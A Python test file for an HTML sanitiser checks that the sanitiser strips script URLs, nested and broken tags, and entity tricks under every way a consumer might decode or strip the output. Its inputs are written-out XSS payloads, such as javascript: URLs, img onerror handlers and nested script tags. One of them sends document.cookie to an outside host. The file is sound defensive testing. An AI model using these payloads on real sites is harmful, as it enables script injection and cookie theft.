"""What the sanitiser publishes, read the way its consumers read it: a browser, a consumer that decodes
the text once more (Google's plain-text fields, a shop that stores decoded copy) and one that strips
the tags (a meta description, a plain-text export).

Found by h14 and fixed here (h15): a script URL with a space after the colon (`javascript: alert(1)`,
the space means nothing to the script a browser runs) was kept whole; removing an element joined the
text around it into a new tag (`<scr<script>…</script>ipt>` published `&lt;script&gt;`); text between
allowed tags became a tag once they were stripped (`<<b>img src=x onerror=…>`, `&l<b></b>t;script>`).
"""

from __future__ import annotations

import html

import nh3
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_hostile_sanitize_oracle import disallowed

from localize.sanitize import MarkupPolicy, may_change, sanitize

POLICY = MarkupPolicy()


@pytest.mark.parametrize("text", [
    "javascript: alert(1)", "javascript:\talert(1)", "javascript:\u00a0alert(1)", "javascript:\u2028alert(1)",
    "javascript:&#32;alert(1)", "javascript:&Tab;alert(1)", " JAVASCRIPT:  void(0)", "javascript: x",
    "javascript: new Image().src='//e.x/'+document.cookie", "javascript: The%0AGood;alert(1)",
    "javascript: typeof alert(1)", "vbscript: msgbox 1", "data: text/html,<b>x</b>", "data: text/html;base64,PHNjcmlw",
    "data:  image/svg+xml;utf8,x",
])
def test_a_script_url_with_whitespace_after_the_scheme_is_removed(text: str) -> None:
    assert may_change(text)
    result = sanitize(text, POLICY)
    assert result.text == "" and result.unsafe, result
    assert "URL as the whole value" in result.removed[0]


@pytest.mark.parametrize("text", [
    "JavaScript: The Good Parts", "JavaScript: Das Handbuch (3. Auflage)", "JavaScript:  kurz erklärt",
    "Javascript: Grundlagen und Praxis", "Data: 5 GB", "Data: Audio/Video Kabel", "Hinweis: javascript: alert(1)",
])
def test_a_title_that_cannot_run_as_a_script_is_kept(text: str) -> None:
    assert sanitize(text, POLICY) == (text, (), False)


def read_every_way(text: str) -> list[str]:
    """What each consumer reads: the text, each decoded level, and the text with its tags stripped."""
    levels, current = [text], text
    for _ in range(3):
        current = html.unescape(current)
        levels.append(current)
    levels.append(html.unescape(nh3.clean(text, tags=set(), attributes={})))  # a consumer's strip_tags
    return levels


def runs_somewhere(text: str) -> list[str]:
    return [f"{found} in {level!r}" for level in read_every_way(text) for found in disallowed(level)]


NESTED = [
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<scr<script>x</script>ipt>alert(1)</script>",
    "<scr<b>ipt>alert(1)</scr</b>ipt>", "<<b>img src=x onerror=alert(1)>", "&lt;<b>img src=x onerror=alert(1)&gt;",
    "&<b></b>lt;script>alert(1)&lt;/script>", "&l<b></b>t;script&gt;alert(1)&l<i></i>t;/script&gt;",
    "<im<style>x</style>g src=x onerror=alert(1)>", "<i<!-- c -->mg src=x onerror=alert(1)>",
    "&lt;scr<script>x</script>ipt&gt;alert(1)&lt;/script&gt;", "<sc<iframe>x</iframe>ript>alert(1)",
]


@pytest.mark.parametrize("text", NESTED)
def test_nested_and_broken_tags_publish_nothing_that_runs_when_decoded_or_stripped(text: str) -> None:
    result = sanitize(text, POLICY)
    assert runs_somewhere(result.text) == [], (text, result)
    assert result.unsafe and result.removed
    assert sanitize(result.text, POLICY).removed == ()  # one pass is enough


@pytest.mark.parametrize("text", [
    "Chapter 3 explains &lt;script&gt; and &lt;iframe&gt; elements.", "<b>Tom &amp; Jerry</b> &lt;3",
    "Preis &lt;US$600 <i>netto</i>", "a < b and <b>c</b> > d",
])
def test_prose_about_markup_is_kept(text: str) -> None:
    assert sanitize(text, POLICY) == (text, (), False)


SPLICE = st.sampled_from([
    "<", ">", "/", "scr", "ipt", "script", "img", "src=x", " ", "onerror=alert(1)", "<b>", "</b>", "<i></i>",
    "<script>", "</script>", "<style>", "</style>", "x", "&", "lt;", "gt;", "&lt;", "&gt;", "&amp;", "#60;", "<!--", "-->",
    "alert(1)", "ifr", "ame",
])


@settings(max_examples=1500, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(SPLICE, max_size=24).map("".join))
def test_no_published_text_runs_when_decoded_or_stripped(text: str) -> None:
    result = sanitize(text, POLICY)
    assert runs_somewhere(result.text) == [], (text, result)
